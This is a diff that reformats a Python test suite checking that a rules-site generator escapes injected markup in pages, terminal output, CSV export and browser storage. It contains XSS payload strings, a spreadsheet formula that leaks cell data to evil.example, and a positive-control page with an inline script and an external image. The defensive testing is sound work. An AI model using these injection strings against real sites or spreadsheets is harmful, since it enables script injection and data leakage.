@@ -1,7 +1,8 @@
-"""Text is text: a marker that would be markup, put into every field that takes it, is shown as it was written and makes nothing.
+"""Text is text: a marker that would be markup, put into every field that takes it, is shown as it was written and makes
+nothing.
 
-The fields are found from the shapes of our files (`generator.catalog.layout`), the marker goes into a small project with one of
-everything, and the whole build of it is looked at: each file, and each page in Chromium.
+The fields are found from the shapes of our files (`generator.catalog.layout`), the marker goes into a small project
+with one of everything, and the whole build of it is looked at: each file, and each page in Chromium.
 """
 
 from __future__ import annotations
@@ -41,8 +42,9 @@ from generator.site.policy import POLICY
 from generator.site.writer import Writer
 
 MARKER = (
-    "m@q<img src=x onerror=fnord()>\"'&amp;&lt;b&gt;](javascript:fnord()) [a](javascript:fnord()) <javascript:fnord()> {{7*7}} {% raw %} "
-    "**b** _e_ `c` <script>fnord()</script> </title></a></td> | ~ # {: onclick=fnord() } --> ]]> ${fnord()} :bomb:"
+    "m@q<img src=x onerror=fnord()>\"'&amp;&lt;b&gt;](javascript:fnord()) [a](javascript:fnord()) <javascript:fnord()>"
+    " {{7*7}} {% raw %} **b** _e_ `c` <script>fnord()</script> </title></a></td> | ~ # {: onclick=fnord() } --> ]]>"
+    " ${fnord()} :bomb:"
 )
 BRIEF = "m@q<img src=x onerror=fnord()>"
 """The same for texts that may not be so long."""
@@ -50,7 +52,22 @@ PLAIN = MARKER.replace("**b**", "b").replace("`c`", "c")
 """The same in our own words, where a terminal shows the words of what is strong or code."""
 TEMPLATES: set[str] = set()
 """Those that the build of the marked project asks for."""
-HIDDEN = ("\x00", "\x1b", "\x7f", "\x85", "\u200b", "\u202e", "\u2066", "\ufeff", "\ue000", "\u2028", "\u034f", "\u3164", "\ufffe", "\uffff")
+HIDDEN = (
+    "\x00",
+    "\x1b",
+    "\x7f",
+    "\x85",
+    "\u200b",
+    "\u202e",
+    "\u2066",
+    "\ufeff",
+    "\ue000",
+    "\u2028",
+    "\u034f",
+    "\u3164",
+    "\ufffe",
+    "\uffff",
+)
 
 
 def marker(number: int) -> str:
@@ -70,7 +87,8 @@ class Field:
 
 
 MORE = {
-    "cards/toy/specials.yaml": """
+    "cards/toy/specials.yaml": (
+        """
   - id: rumor
     name: Rumor
     type_line: Special
@@ -81,11 +99,15 @@ MORE = {
     source: toy-blackout
     clauses:
       - {note: "It travels.", reason: "No sentence says so."}
-""",
-    "rules/toy/glossary.yaml": """
+"""
+    ),
+    "rules/toy/glossary.yaml": (
+        """
 - {id: roll-of-dice, term: toss, plural: tosses, meaning: Two dice., section: roll, also: [throw]}
-""",
-    "rules/toy/figures.yaml": """
+"""
+    ),
+    "rules/toy/figures.yaml": (
+        """
 - id: course
   title: The course of a roll
   section: roll
@@ -93,8 +115,10 @@ MORE = {
     - {title: Roll, says: Two dice., section: roll, aside: Done}
   last: Nothing
   rulings: [poets-alone]
-""",
-    "rules/toy/errata.yaml": """
+"""
+    ),
+    "rules/toy/errata.yaml": (
+        """
 - id: rumor-slower
   cards: [rumor]
   since: second
@@ -103,8 +127,10 @@ MORE = {
   states: [toy-blackout]
   changes:
     - was: {note: "It ran.", reason: "No sentence said so."}
-""",
-    "rules/toy/game.yaml": """
+"""
+    ),
+    "rules/toy/game.yaml": (
+        """
 hooks: deluxe
 statements: [toy-]
 sentences-say: TOY
@@ -133,20 +159,26 @@ besides:
 tokens: true
 relief: true
 goals: {words: [players, groups], players: 4, victims: [group], cites: [ALL]}
-""",
-    "cards/toil/groups.yaml": """
+"""  # noqa: E501
+    ),
+    "cards/toil/groups.yaml": (
+        """
 set: toil
 kind: group
 cards:
   - {id: diggers, name: Diggers, power: 3, resistance: 4, arrows: {in: left, out: [top]}}
   - {id: weavers, name: Weavers, power: 2, resistance: 3, arrows: {in: left, out: [top]}}
-""",
-    "rules/toil/game.yaml": """
+"""
+    ),
+    "rules/toil/game.yaml": (
+        """
 hooks: deluxe
 example: toil control diggers>weavers
 goals: {words: [players, groups], players: 4, victims: [group], cites: [ALL]}
-""",
-    "rules/toil/terms.yaml": """
+"""
+    ),
+    "rules/toil/terms.yaml": (
+        """
 opposites:
   pairs: {}
 fails_from: 11
@@ -154,26 +186,32 @@ terms:
   - {id: power, say: attack +Power of the attacker, cites: [toy-roll]}
 requirements: []
 goals: []
-""",
+"""
+    ),
     "rules/toil/glossary.yaml": "- {id: die, term: die, plural: dice, meaning: A cube., section: roll}\n",
     "rules/toil/conflicts.yaml": "[]\n",
-    "rules/toil/01-attacks.md": """
+    "rules/toil/01-attacks.md": (
+        """
 # 1 Attacks {#attacks}
 
 ## 1.1 The roll {#roll}
 
 Roll a die.
 ~ toy-roll
-""",
-    "rules/differences.yaml": """
+"""
+    ),
+    "rules/differences.yaml": (
+        """
 - id: dice
   topic: Attacks
   title: How many dice
   games:
     toy: {says: Two of them., section: roll}
     toil: {says: One., section: roll}
-""",
-    "rules/toy/rulings/basic.yaml": """
+"""
+    ),
+    "rules/toy/rulings/basic.yaml": (
+        """
 - id: poets-alone
   title: Poets alone
   question: And alone?
@@ -190,12 +228,21 @@ Roll a die.
     position: toy control poets>bakers
     expect:
       - {strength: -4, note: And these.}
-""",
+"""
+    ),
 }
 """What the project needs beside the good files, so that it has one of everything."""
 
 
-SAID = {"kind": "rule", "section": "Others", "page": "2", "line": "6", "gist": "It is so.", "cards": [], "checkable": False}
+SAID = {
+    "kind": "rule",
+    "section": "Others",
+    "page": "2",
+    "line": "6",
+    "gist": "It is so.",
+    "cards": [],
+    "checkable": False,
+}
 """A statement that a template or a script cites."""
 
 
@@ -208,24 +255,40 @@ def project(folder: Path) -> None:
             opened.write(more.removeprefix("\n"))
     sets = folder / "cards/sets.yaml"
     toil = "  - {id: toil, title: Toil, short: Toil, numbers: [power, resistance], alignments: [], attributes: []}\n"
-    sets.write_text(sets.read_text(encoding="utf-8").replace("sets:\n", f"{toil}sets:\n  - {{id: toil, game: toil, title: Toil, year: 2002}}\n"), encoding="utf-8")
+    sets.write_text(
+        sets.read_text(encoding="utf-8").replace(
+            "sets:\n", f"{toil}sets:\n  - {{id: toil, game: toil, title: Toil, year: 2002}}\n"
+        ),
+        encoding="utf-8",
+    )
     documents = folder / "rules/documents.yaml"
     documents.write_text(
-        "- {id: toy, title: The Rules of Toy, short: Toy rules, year: 2001, edition: First, publisher: Toymakers, note: Out of print.}\n",
+        "- {id: toy, title: The Rules of Toy, short: Toy rules, year: 2001, edition: First, publisher: Toymakers, note:"
+        " Out of print.}\n",
         encoding="utf-8",
     )
     terms = folder / "rules/toy/terms.yaml"
     text = terms.read_text(encoding="utf-8")
     terms.write_text(text.replace("{id: power, say:", "{id: power, label: strength of arms, say:"), encoding="utf-8")
-    ours = [path.read_text(encoding="utf-8") for kind in ("*.j2", "assets/*.js") for path in (ROOT / "site_templates").glob(kind)]
-    known = {cite for path in ROOT.glob("rules/statements/*.jsonl") for cite in re.findall(r'"id": "([\w-]+)"', path.read_text(encoding="utf-8"))}
+    ours = [
+        path.read_text(encoding="utf-8")
+        for kind in ("*.j2", "assets/*.js")
+        for path in (ROOT / "site_templates").glob(kind)
+    ]
+    known = {
+        cite
+        for path in ROOT.glob("rules/statements/*.jsonl")
+        for cite in re.findall(r'"id": "([\w-]+)"', path.read_text(encoding="utf-8"))
+    }
     cited = sorted({each for text in ours for each in re.findall(r'"([\w-]+)"', text)} & known)
     with (folder / "rules/statements/toy.jsonl").open("a", encoding="utf-8") as opened:
         opened.writelines(json.dumps({**SAID, "id": cite}) + "\n" for cite in cited)
     for game in folder.glob("rules/*/game.yaml"):
         game.write_text(game.read_text(encoding="utf-8").replace("[ALL]", f"[{', '.join(cited)}]"), encoding="utf-8")
     anchors = sorted({anchor for text in ours for anchor in re.findall(r'sec\("([\w-]+)"\)', text)})
-    sections = "".join(f"\n## 2.{at} Another {{#{anchor}}}\n\nIt is so.\n~ toy-roll\n" for at, anchor in enumerate(anchors, 1))
+    sections = "".join(
+        f"\n## 2.{at} Another {{#{anchor}}}\n\nIt is so.\n~ toy-roll\n" for at, anchor in enumerate(anchors, 1)
+    )
     (folder / "rules/toy/02-others.md").write_text(f"# 2 Others {{#others}}\n{sections}", encoding="utf-8")
     assert set() == reads(folder)
 
@@ -315,7 +378,12 @@ def named(shape: Any, name: str, refers: tuple[str, ...] = FREE) -> Iterator[str
 
 def all_names(refers: tuple[str, ...] = FREE) -> set[str]:
     """The name of every text that our files can have."""
-    found = {name for kind in CARD_KINDS for subtype in SUBTYPES.get(kind, (None,)) for name in named(card_file(kind, subtype), "cards", refers)}
+    found = {
+        name
+        for kind in CARD_KINDS
+        for subtype in SUBTYPES.get(kind, (None,))
+        for name in named(card_file(kind, subtype), "cards", refers)
+    }
     for path, (_, shape) in SCHEMAS.items():
         kind = path.rpartition("/")[2].removesuffix(".schema.json")
         found |= set(named(shape, kind, refers)) if kind != "card" else set()
@@ -339,7 +407,9 @@ def reads(folder: Path) -> set[str]:
 
 @pytest.fixture(scope="module")
 def marked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[int, str]]:
-    """A project with a marker in every text that takes one, built; the names of the fields by the numbers of the markers."""
+    """A project with a marker in every text that takes one, built; the names of the fields by the numbers of the
+    markers.
+    """
     folder = tmp_path_factory.mktemp("marked")
     project(folder)
     found = fields(folder)
@@ -355,12 +425,16 @@ def marked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[int, st
         if each.takes:
             path = folder / each.file
             text = path.read_text(encoding="utf-8")
-            path.write_text(replaced(text, each.start, each.end, each.takes.replace("@", str(number))), encoding="utf-8")
+            path.write_text(
+                replaced(text, each.start, each.end, each.takes.replace("@", str(number))), encoding="utf-8"
+            )
             names[number] = each.name
     chapter = folder / "rules/toy/01-attacks.md"
     text = chapter.read_text(encoding="utf-8")
     safe = marker(900).replace("{{", "{ {").replace("<", "< ").replace("]]", "] ]")
-    chapter.write_text(text.replace("The roll {", f"{marker(901)} {{").replace("Add and", f"{safe} Add and"), encoding="utf-8")
+    chapter.write_text(
+        text.replace("The roll {", f"{marker(901)} {{").replace("Add and", f"{safe} Add and"), encoding="utf-8"
+    )
     names |= {900: "chapter text", 901: "chapter title", 902: "attributes of a card"}
     for file in ("toy/specials", "sets"):  # a word that a card and the list of its game both have
         path = folder / f"cards/{file}.yaml"
@@ -377,7 +451,9 @@ def marked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[int, st
             if f"statement{key}" not in names.values() and not reads(folder):
                 first, names[number] = marked, f"statement{key}"
     statements.write_text("".join(f"{json.dumps(each)}\n" for each in (first, *others)), encoding="utf-8")
-    assert {"statement.gist", "statement.section", "statement.kind", "statement.page", "statement.line"} <= set(names.values())
+    assert {"statement.gist", "statement.section", "statement.kind", "statement.page", "statement.line"} <= set(
+        names.values()
+    )
     assert set() == reads(folder)
     make_buildable(folder)
     synonyms = folder / "rules/synonyms.yaml"
@@ -389,7 +465,11 @@ def marked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[int, st
     with pytest.MonkeyPatch.context() as patch:
         patch.setenv("DOSSIER_CORES", "1")  # so that all of it happens in this process
         found_before = Environment.get_template
-        patch.setattr(Environment, "get_template", lambda self, name, *given, **named: TEMPLATES.add(name) or found_before(self, name, *given, **named))
+        patch.setattr(
+            Environment,
+            "get_template",
+            lambda self, name, *given, **named: TEMPLATES.add(name) or found_before(self, name, *given, **named),
+        )
         build_site(folder)
     return folder, names
 
@@ -422,9 +502,15 @@ class Shown(HTMLParser):
         """Look at an element."""
         for name, value in attrs:
             self.words.append(value or "")
-            if name.startswith("on") or (value != BLANK and re.match(r"\s*(javascript|vbscript|data):", value or "", re.IGNORECASE)):
+            if name.startswith("on") or (
+                value != BLANK and re.match(r"\s*(javascript|vbscript|data):", value or "", re.IGNORECASE)
+            ):
                 self.wrong.append(f"<{tag} {name}={value}>")
-            if name in ("href", "src") and re.match(r"[a-z]+:|//", value or "") and not re.match("https?://", value or ""):
+            if (
+                name in ("href", "src")
+                and re.match(r"[a-z]+:|//", value or "")
+                and not re.match("https?://", value or "")
+            ):
                 self.wrong.append(f"<{tag} {name}={value}>")
             if name in ("href", "src") and value == "x":
                 self.wrong.append(f"<{tag} {name}={value}>")
@@ -441,14 +527,24 @@ class Shown(HTMLParser):
 
 
 def test_every_field_is_marked(marked: tuple[Path, dict[int, str]], tmp_path: Path) -> None:
-    """Of each text in the shapes the project has one, and it takes the marker, or is the name of something or a sentence."""
+    """Of each text in the shapes the project has one, and it takes the marker, or is the name of something or a
+    sentence.
+    """
     _, names = marked
     project(tmp_path)
     assert set() == all_names() - {each.name for each in fields(tmp_path)}
     free = set(names.values())
     bound = {each.name for each in fields(tmp_path)} - free
     print(f"\n{len(names)} markers in {len(free)} fields; bound to other things: {', '.join(sorted(bound))}")
-    for name in ("cards.cards.name", "rulings.title", "rulings.question", "rulings.answer", "faq.title", "sets.games.title", "sets.games.short"):
+    for name in (
+        "cards.cards.name",
+        "rulings.title",
+        "rulings.question",
+        "rulings.answer",
+        "faq.title",
+        "sets.games.title",
+        "sets.games.short",
+    ):
         assert any(each.endswith(name) for each in free), (name, sorted(free))
 
 
@@ -464,7 +560,9 @@ def test_a_key_that_is_no_word_of_ours_is_a_problem(tmp_path: Path) -> None:
     tried = set()
     for path in sorted(tmp_path.glob("rules/*/rulings/*.yaml")):
         text = path.read_text(encoding="utf-8")
-        for name, key in keys_anywhere(shape_of(path.relative_to(tmp_path).as_posix(), yaml.compose(text)), yaml.compose(text), ""):
+        for name, key in keys_anywhere(
+            shape_of(path.relative_to(tmp_path).as_posix(), yaml.compose(text)), yaml.compose(text), ""
+        ):
             path.write_text(replaced(text, key.start_mark.index, key.end_mark.index, marker(1)), encoding="utf-8")
             assert reads(tmp_path), name
             tried.add(name)
@@ -489,7 +587,9 @@ def keys_anywhere(shape: Any, node: yaml.Node, name: str) -> Iterator[tuple[str,
 
 
 def test_pages_show_the_marker_and_nothing_of_it_is_markup(marked: tuple[Path, dict[int, str]]) -> None:
-    """No element, attribute or script of a page comes from a marker, and what a page shows of one is what was written."""
+    """No element, attribute or script of a page comes from a marker, and what a page shows of one is what was
+    written.
+    """
     folder, names = marked
     wrong, seen = {}, set()
     for path in sorted((folder / "site").rglob("*.html")):
@@ -499,7 +599,9 @@ def test_pages_show_the_marker_and_nothing_of_it_is_markup(marked: tuple[Path, d
             wrong[path.relative_to(folder).as_posix()] = shown.wrong
         words = "\n".join(shown.words)
         seen |= {int(number) for number in re.findall(r"m(\d+)q<img src=x onerror=fnord\(\)>", words)}
-        assert not re.search(r"m\d+q(?!<img src=x|<img$|< img src=x|-img-src-x|%3Cimg%20src|$|[^<&]{0,3}…)", words, re.MULTILINE), path
+        assert not re.search(
+            r"m\d+q(?!<img src=x|<img$|< img src=x|-img-src-x|%3Cimg%20src|$|[^<&]{0,3}…)", words, re.MULTILINE
+        ), path
         assert "49" not in words or "{{7*7}}" in words
     assert {} == wrong
     hidden = {name for number, name in names.items() if number not in seen and number != 900}
@@ -523,12 +625,16 @@ def test_other_files_hold_the_marker_as_text(marked: tuple[Path, dict[int, str]]
         assert any("<img src=x onerror=fnord()>" in row["name"] for row in csv.DictReader(file))
 
 
-@pytest.mark.parametrize("computed", ['=HYPERLINK("http://evil.example/?"&A1,"Rumor")', "+1", "-1+A1", "@SUM(A1)", " =1", "\uff1d1"])
+@pytest.mark.parametrize(
+    "computed", ['=HYPERLINK("http://evil.example/?"&A1,"Rumor")', "+1", "-1+A1", "@SUM(A1)", " =1", "\uff1d1"]
+)
 def test_no_spreadsheet_computes_a_text(tmp_path: Path, computed: str) -> None:
     """A cell whose text would be a formula has an apostrophe before it."""
     project(tmp_path)
     cards = tmp_path / "cards/toy/specials.yaml"
-    cards.write_text(cards.read_text(encoding="utf-8").replace("name: Rumor", f"name: {json.dumps(computed)}"), encoding="utf-8")
+    cards.write_text(
+        cards.read_text(encoding="utf-8").replace("name: Rumor", f"name: {json.dumps(computed)}"), encoding="utf-8"
+    )
     (path,) = export(read_catalog(tmp_path), ["csv"], tmp_path)
     with path.open(encoding="utf-8", newline="") as file:
         rows = list(csv.DictReader(file))
@@ -537,26 +643,51 @@ def test_no_spreadsheet_computes_a_text(tmp_path: Path, computed: str) -> None:
 
 
 PRINTED = {
-    "cards.cards.name", "cards.cards.type_line", "cards.cards.remark", "cards.cards.clauses.note", "attributes of a card",
-    "errata.title", "errata.says", "sets.editions.title", "rulings.title", "rulings.question", "rulings.answer", "rulings.counter.says",
-    "rulings.expect.note", "documents.short", "chapter title", "conflicts.title", "scenario",
+    "cards.cards.name",
+    "cards.cards.type_line",
+    "cards.cards.remark",
+    "cards.cards.clauses.note",
+    "attributes of a card",
+    "errata.title",
+    "errata.says",
+    "sets.editions.title",
+    "rulings.title",
+    "rulings.question",
+    "rulings.answer",
+    "rulings.counter.says",
+    "rulings.expect.note",
+    "documents.short",
+    "chapter title",
+    "conflicts.title",
+    "scenario",
 }
 """What the terminal shows of cards, rulings, sections, conflicts and a player's own scenarios."""
 
 
-def test_the_terminal_shows_the_marker_as_text(marked: tuple[Path, dict[int, str]], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    """Whatever command prints a marker prints all of it, and no sign, style or link that comes of it; the search, which cuts texts, what is there."""
+def test_the_terminal_shows_the_marker_as_text(
+    marked: tuple[Path, dict[int, str]], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Whatever command prints a marker prints all of it, and no sign, style or link that comes of it; the search, which
+    cuts texts, what is there.
+    """
     folder, names = marked
     catalog = read_catalog(folder)
     mine = {key: marker(number) for number, key in enumerate(("title", "question", "answer"), 905)} | {
-        "position": "toy control bakers>poets", "expect": [{"strength": 2, "note": marker(908)}],
+        "position": "toy control bakers>poets",
+        "expect": [{"strength": 2, "note": marker(908)}],
         "counter": {"says": marker(909), "position": "toy control poets>bakers", "expect": [{"strength": -4}]},
     }
     (tmp_path / "mine.yaml").write_text(yaml.safe_dump(mine), encoding="utf-8")
     cards = [["card", record.id.partition("/")[2]] for record in catalog.cards]
     others = [["ruling", *ruling] for ruling in ((), *((each.id,) for each in catalog.rulings))]
     seen = set()
-    more = [["coverage", "--map"], ["coverage"], ["attack", "toy control bakers>poets"], ["diff-answers", "toy", "toil"], ["scenario", str(tmp_path / "mine.yaml")]]
+    more = [
+        ["coverage", "--map"],
+        ["coverage"],
+        ["attack", "toy control bakers>poets"],
+        ["diff-answers", "toy", "toil"],
+        ["scenario", str(tmp_path / "mine.yaml")],
+    ]
     dated = [["card", "bakers", "--as-of", "first"], ["card", "blackout", "--as-of", "first"]]
     for line in [*cards, *dated, *others, *more, ["search", "poets"], ["search", "fnord", "--limit", "200"]]:
         with pytest.raises(SystemExit) as ended:
@@ -576,19 +707,32 @@ def test_the_terminal_shows_the_marker_as_text(marked: tuple[Path, dict[int, str
 
 
 def test_the_terminal_reads_no_markup() -> None:
-    """Styles are given beside words, never within them, so nothing that a command prints can be forgotten: there is no markup to escape."""
+    """Styles are given beside words, never within them, so nothing that a command prints can be forgotten: there is no
+    markup to escape.
+    """
     source = (ROOT / "generator/cli.py").read_text(encoding="utf-8")
     assert "from_markup" not in source and 2 == source.count("emoji=False, markup=False)")
     assert 1 == source.count("escape(")  # in the help, which is our own
 
 
 def test_what_looks_like_a_link_and_is_none_is_refused(tmp_path: Path) -> None:
-    """In every field of our own words, with one notation for whoever reads, shows or prints it: nothing that `check` takes is left on a page."""
+    """In every field of our own words, with one notation for whoever reads, shows or prints it: nothing that `check`
+    takes is left on a page.
+    """
     project(tmp_path)
     prose = all_names(("prose",))
     found = [each for each in fields(tmp_path) if each.name in prose]
     assert set() == prose - {each.name for each in found}
-    odd = ("[[foo[bar]]", "[[#roll|a|b]]", "[[Poets", "Poets]]", "[[]]", "[[Poets|a[b]c]]", "[[#roll|[[Poets]]]]", "[[#zzz[y]]")
+    odd = (
+        "[[foo[bar]]",
+        "[[#roll|a|b]]",
+        "[[Poets",
+        "Poets]]",
+        "[[]]",
+        "[[Poets|a[b]c]]",
+        "[[#roll|[[Poets]]]]",
+        "[[#zzz[y]]",
+    )
     for number, each in enumerate([*found, *found[:1] * len(odd)]):
         path = tmp_path / each.file
         text = path.read_text(encoding="utf-8")
@@ -620,34 +764,64 @@ def test_no_page_runs_or_loads_anything_of_a_marker(marked: tuple[Path, dict[int
             assert [] == page.evaluate("() => said"), path
         page.goto(url)
         assert [] == page.evaluate("() => said")
-        assert [] == [each for each in asked if each.endswith("/x") or "javascript" in each.rpartition("/")[2].partition(":")[0] + ":" and "fnord" in each]
+        assert [] == [
+            each
+            for each in asked
+            if each.endswith("/x")
+            or "javascript" in each.rpartition("/")[2].partition(":")[0] + ":"
+            and "fnord" in each
+        ]
         page.close()  # while its server is there
     # Each of the last two is 0, or the lines above have failed.
     note("marked", fields=len(set(names.values())), markers=len(names), pages=len(pages))
 
 
-KEPT_BY_OTHERS = (MARKER, "", "null", "[]", "{}", '"x"', "[null, 1, {}]", '{"color": null}', '{"color": {"scheme": "<b>", "media": 7}}', '{"index": 9, "color": {"scheme": "slate"}}', '{"index": 1, "color": 7}', "[" * 3_000)
+KEPT_BY_OTHERS = (
+    MARKER,
+    "",
+    "null",
+    "[]",
+    "{}",
+    '"x"',
+    "[null, 1, {}]",
+    '{"color": null}',
+    '{"color": {"scheme": "<b>", "media": 7}}',
+    '{"index": 9, "color": {"scheme": "slate"}}',
+    '{"index": 1, "color": 7}',
+    "[" * 3_000,
+)
 """What may stand in the storage of the browser where we keep something."""
 
 
 @pytest.mark.parametrize("kept", KEPT_BY_OTHERS, ids=range(len(KEPT_BY_OTHERS)))
 def test_what_the_browser_has_kept_is_text(marked: tuple[Path, dict[int, str]], new_page: Pages, kept: str) -> None:
-    """Whatever stands under our names in the storage of the browser: pages open without an error, with a color scheme, and run none of it."""
+    """Whatever stands under our names in the storage of the browser: pages open without an error, with a color scheme,
+    and run none of it.
+    """
     folder, _ = marked
     with serving(folder / "site") as url:
         page = new_page()
         page.add_init_script(f"({LISTEN})()")
         page.goto(url)
-        page.evaluate("(kept) => { for (const key of ['/.favorites', '/.game', '/.__palette']) localStorage.setItem(key, kept); }", kept)
+        page.evaluate(
+            "(kept) => { for (const key of ['/.favorites', '/.game', '/.__palette']) localStorage.setItem(key,"
+            " kept); }",
+            kept,
+        )
         for where in ("", "cards/", "cards/toy/poets/", "search/?q=poets"):
             page.goto(url + where)
             at_rest(page)
-            assert ("default", []) == (page.evaluate("document.body.dataset.mdColorScheme"), page.evaluate("() => said"))
+            assert ("default", []) == (
+                page.evaluate("document.body.dataset.mdColorScheme"),
+                page.evaluate("() => said"),
+            )
         page.close()
 
 
 def test_what_is_typed_and_what_an_address_says_is_text(marked: tuple[Path, dict[int, str]], new_page: Pages) -> None:
-    """The marker in every field that takes text, and behind every address: nothing of it runs, loads or makes an element."""
+    """The marker in every field that takes text, and behind every address: nothing of it runs, loads or makes an
+    element.
+    """
     folder, _ = marked
     typed = marker(903)
     tried = 0
@@ -657,13 +831,18 @@ def test_what_is_typed_and_what_an_address_says_is_text(marked: tuple[Path, dict
         asked: list[str] = []
         page.on("request", lambda request: asked.append(request.url))
         # One page of those that have the same scripts.
-        pages = {tuple(re.findall('<script[^>]*src="(?:\\.\\./)*([^"]*)', path.read_text(encoding="utf-8"))): path for path in (folder / "site").rglob("index.html")}
+        pages = {
+            tuple(re.findall('<script[^>]*src="(?:\\.\\./)*([^"]*)', path.read_text(encoding="utf-8"))): path
+            for path in (folder / "site").rglob("index.html")
+        }
         for path in sorted(pages.values()):
             place = url + path.parent.relative_to(folder / "site").as_posix().removeprefix(".").rstrip("/") + "/"
             for behind in (f"?q={quote(typed)}&find={quote(typed)}&kind={quote(typed)}", f"#{quote(typed)}"):
                 page.goto(place + behind)
                 at_rest(page)
-                fields = page.locator("input[type=text]:visible, input[type=search]:visible, input:not([type]):visible, textarea:visible")
+                fields = page.locator(
+                    "input[type=text]:visible, input[type=search]:visible, input:not([type]):visible, textarea:visible"
+                )
                 for number in range(fields.count()):
                     fields.nth(number).fill(typed)
                     fields.nth(number).press("Enter")
@@ -681,11 +860,16 @@ def test_what_is_typed_and_what_an_address_says_is_text(marked: tuple[Path, dict
 
 
 def test_a_violation_would_be_seen(marked: tuple[Path, dict[int, str]], new_page: Pages) -> None:
-    """The positive control: a page into which somebody wrote a script, a handler, a style and a picture of another host breaks the policy."""
+    """The positive control: a page into which somebody wrote a script, a handler, a style and a picture of another host
+    breaks the policy.
+    """
     folder, _ = marked
     page_file = folder / "site" / "about" / "index.html"
     html = page_file.read_text(encoding="utf-8")
-    evil = "<script>fnord()</script><img src=x onerror=fnord()><p style='color:red'>a</p><img src='http://127.0.0.1:9/evil.png'>"
+    evil = (
+        "<script>fnord()</script><img src=x onerror=fnord()><p style='color:red'>a</p><img"
+        " src='http://127.0.0.1:9/evil.png'>"
+    )
     broken = folder / "site" / "broken.html"
     broken.write_text(html.replace("</article>", f"{evil}</article>").replace('="../', '="'), encoding="utf-8")
     with serving(folder / "site") as url:
@@ -695,16 +879,25 @@ def test_a_violation_would_be_seen(marked: tuple[Path, dict[int, str]], new_page
         said = set(page.evaluate("() => said"))
         page.close()  # while its server is there
     broken.unlink()
-    assert {"script-src-elem inline", "script-src-attr inline", "style-src-attr inline", "img-src http://127.0.0.1:9/evil.png"} <= said
+    assert {
+        "script-src-elem inline",
+        "script-src-attr inline",
+        "style-src-attr inline",
+        "img-src http://127.0.0.1:9/evil.png",
+    } <= said
     assert "fnord" not in said
     new_page.forgive()
 
 
 def test_every_page_says_its_policy(marked: tuple[Path, dict[int, str]]) -> None:
-    """Before anything that it loads; and for hosts that say it in headers there is a file, which is not among what is kept."""
+    """Before anything that it loads; and for hosts that say it in headers there is a file, which is not among what is
+    kept.
+    """
     site = marked[0] / "site"
     for path in site.rglob("*.html"):
-        before, said, _ = path.read_text(encoding="utf-8").partition(f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">')
+        before, said, _ = path.read_text(encoding="utf-8").partition(
+            f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
+        )
         assert said, path
         assert not re.search("<(script|link|style|img)", before), path
     assert POLICY in (site / "_headers").read_text(encoding="utf-8")
@@ -712,9 +905,13 @@ def test_every_page_says_its_policy(marked: tuple[Path, dict[int, str]]) -> None
 
 
 def test_a_title_is_read_back_whatever_is_in_it(tmp_path: Path) -> None:
-    """Titles and descriptions go to MkDocs as YAML, where every character is read as what it is, those that YAML refuses to read too."""
+    """Titles and descriptions go to MkDocs as YAML, where every character is read as what it is, those that YAML
+    refuses to read too.
+    """
     title = "".join(map(chr, (*range(0x20, 0x3000), *range(0xFDD0, 0x10000), 0x1F3B2, 0x10FFFF)))
-    Writer(Book(read_catalog(GOOD)), ROOT / "site_templates", tmp_path).page("x/", "search.md.j2", title=title, description="--- # \n---\n", questions=())
+    Writer(Book(read_catalog(GOOD)), ROOT / "site_templates", tmp_path).page(
+        "x/", "search.md.j2", title=title, description="--- # \n---\n", questions=()
+    )
     text, read = get_data((tmp_path / links.source_of("x/")).read_text(encoding="utf-8"))
     assert (title, "--- # \n---\n") == tuple(unescape(read[key]) for key in ("title", "description"))
     assert not text.startswith("---")
@@ -726,7 +923,9 @@ def test_a_page_whose_title_cannot_be_read_is_no_page(tmp_path: Path) -> None:
     (tmp_path / "docs/index.md").write_text('---\ntitle: "<b>\ufffe"\n---\n# A page\n', encoding="utf-8")
     with pytest.raises(BuildError) as caught:
         render(ROOT, tmp_path / "docs", tmp_path / "site", [{"Home": "index.md"}])
-    assert ("mkdocs.yml:1:1: broken-page: the title and description of index.md can't be read",) == caught.value.problems
+    assert (
+        "mkdocs.yml:1:1: broken-page: the title and description of index.md can't be read",
+    ) == caught.value.problems
 
 
 def test_what_nobody_can_see_is_refused_in_every_field(tmp_path: Path) -> None:
@@ -738,4 +937,3 @@ def test_what_nobody_can_see_is_refused_in_every_field(tmp_path: Path) -> None:
         path.write_text(replaced(text, each.start, each.end, f"a{HIDDEN[number % len(HIDDEN)]}b"), encoding="utf-8")
         assert "bad-character" in reads(tmp_path), each
         path.write_text(text, encoding="utf-8")
-
